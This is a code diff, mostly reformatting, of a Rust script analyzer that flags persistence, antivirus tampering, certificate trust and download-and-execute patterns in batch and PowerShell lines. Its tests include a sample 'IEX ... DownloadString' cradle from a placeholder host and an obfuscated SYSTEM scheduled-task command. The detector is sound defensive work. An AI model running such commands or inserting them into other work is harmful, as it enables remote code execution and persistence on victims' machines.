@@ -5,10 +5,28 @@ use crate::{bytes::shortened, facts::Action, read::shell::Found};
 /// Words of PowerShell in the case that the tables have; the language itself does not care.
 pub(crate) fn cased(text: &str) -> String {
     const WORDS: [&str; 22] = [
-        "Net.WebClient", "Invoke-WebRequest", "Invoke-RestMethod", "DownloadString", "DownloadFile", "Start-BitsTransfer",
-        "Start-Process", "Invoke-Expression", "FromBase64String", "Add-MpPreference", "Set-MpPreference", "New-Service",
-        "Register-ScheduledTask", "schtasks", "Get-Process", "Out-File", "Set-Content", "WriteAllBytes", "$env:TEMP", "%TEMP%",
-        "DisableRealtimeMonitoring", "iex ",
+        "Net.WebClient",
+        "Invoke-WebRequest",
+        "Invoke-RestMethod",
+        "DownloadString",
+        "DownloadFile",
+        "Start-BitsTransfer",
+        "Start-Process",
+        "Invoke-Expression",
+        "FromBase64String",
+        "Add-MpPreference",
+        "Set-MpPreference",
+        "New-Service",
+        "Register-ScheduledTask",
+        "schtasks",
+        "Get-Process",
+        "Out-File",
+        "Set-Content",
+        "WriteAllBytes",
+        "$env:TEMP",
+        "%TEMP%",
+        "DisableRealtimeMonitoring",
+        "iex ",
     ];
     let lower = text.to_ascii_lowercase();
     let mut cased = text.to_owned();
@@ -52,7 +70,11 @@ fn of(line: &str, lower: &str) -> Vec<Action> {
     let what = || shortened(line, 300);
     let mut actions = Vec::new();
     if has(&["schtasks"]) && has(&["/create"]) || has(&["register-scheduledtask", "new-scheduledtask"]) {
-        actions.push(Action::Register { what: "scheduled task".into(), name: what(), program: String::new() });
+        actions.push(Action::Register {
+            what: "scheduled task".into(),
+            name: what(),
+            program: String::new(),
+        });
     }
     if has(&["sc create", "sc.exe create", "new-service", "nssm install"]) {
         actions.push(Action::Register { what: "service".into(), name: what(), program: String::new() });
@@ -60,19 +82,47 @@ fn of(line: &str, lower: &str) -> Vec<Action> {
     if has(&["currentversion\\run", "\\startup\\", "shell:startup"]) {
         actions.push(Action::Registry { key: what(), value: String::new() });
     }
-    if has(&["add-mppreference", "set-mppreference", "disablerealtimemonitoring", "disableantispyware", "unblock-file", "advfirewall set", "smartscreenenabled", "enablelua", "amsiutils"]) {
+    if has(&[
+        "add-mppreference",
+        "set-mppreference",
+        "disablerealtimemonitoring",
+        "disableantispyware",
+        "unblock-file",
+        "advfirewall set",
+        "smartscreenenabled",
+        "enablelua",
+        "amsiutils",
+    ]) {
         actions.push(Action::Unprotect { what: what() });
     }
     if has(&["certutil"]) && has(&["-addstore"]) || has(&["import-certificate"]) && has(&["root"]) {
         actions.push(Action::TrustCertificate { what: what() });
     }
-    let fetches = has(&["invoke-webrequest", "invoke-restmethod", "downloadstring", "downloadfile", "start-bitstransfer", "bitsadmin", "curl ", "wget ", "urlcache", "iwr ", "irm "]);
+    let fetches = has(&[
+        "invoke-webrequest",
+        "invoke-restmethod",
+        "downloadstring",
+        "downloadfile",
+        "start-bitstransfer",
+        "bitsadmin",
+        "curl ",
+        "wget ",
+        "urlcache",
+        "iwr ",
+        "irm ",
+    ]);
     if fetches && (lower.contains("://") || has(&["downloadstring", "downloadfile"])) {
-        let from = lower.find("http").and_then(|at| line.get(at..)).map(|rest| rest.chars().take_while(|letter| !letter.is_whitespace() && !matches!(letter, '\'' | '"' | ')')).collect());
+        let from = lower.find("http").and_then(|at| line.get(at..)).map(|rest| {
+            rest.chars()
+                .take_while(|letter| !letter.is_whitespace() && !matches!(letter, '\'' | '"' | ')'))
+                .collect()
+        });
         let runs = has(&["iex", "invoke-expression", "| powershell", "|powershell"]);
         actions.push(Action::Download { from: from.unwrap_or_default(), to: String::new(), runs });
     }
-    if has(&["-encodedcommand", " -enc ", "frombase64string"]) && has(&["iex", "invoke-expression", "powershell", "assembly]::load"]) {
+    if has(&["-encodedcommand", " -enc ", "frombase64string"])
+        && has(&["iex", "invoke-expression", "powershell", "assembly]::load"])
+    {
         actions.push(Action::Evaluate { what: what() });
     }
     if has(&["attrib +h", "attrib  +h", "+h +s", "attributes = 'hidden"]) {
@@ -97,10 +147,15 @@ mod tests {
 
     #[test]
     fn lines_are_read_without_case_and_carets() {
-        let found = batch("@echo off\nrem schtasks /create\nSCHT^ASKS /Create /SC ONLOGON /RU SYSTEM /TN a /TR b.exe\n");
+        let found = batch(
+            "@echo off\nrem schtasks /create\nSCHT^ASKS /Create /SC ONLOGON /RU SYSTEM /TN a /TR b.exe\n",
+        );
         assert_eq!(found.len(), 1);
         assert!(matches!(&found[0], (3, Action::Register { what, .. }) if what == "scheduled task"));
         let found = powershell("IEX (New-Object Net.WebClient).DownloadString('https://a.example/x')");
-        assert_eq!(found, [(1, Action::Download { from: "https://a.example/x".into(), to: String::new(), runs: true })]);
+        assert_eq!(
+            found,
+            [(1, Action::Download { from: "https://a.example/x".into(), to: String::new(), runs: true })]
+        );
     }
 }
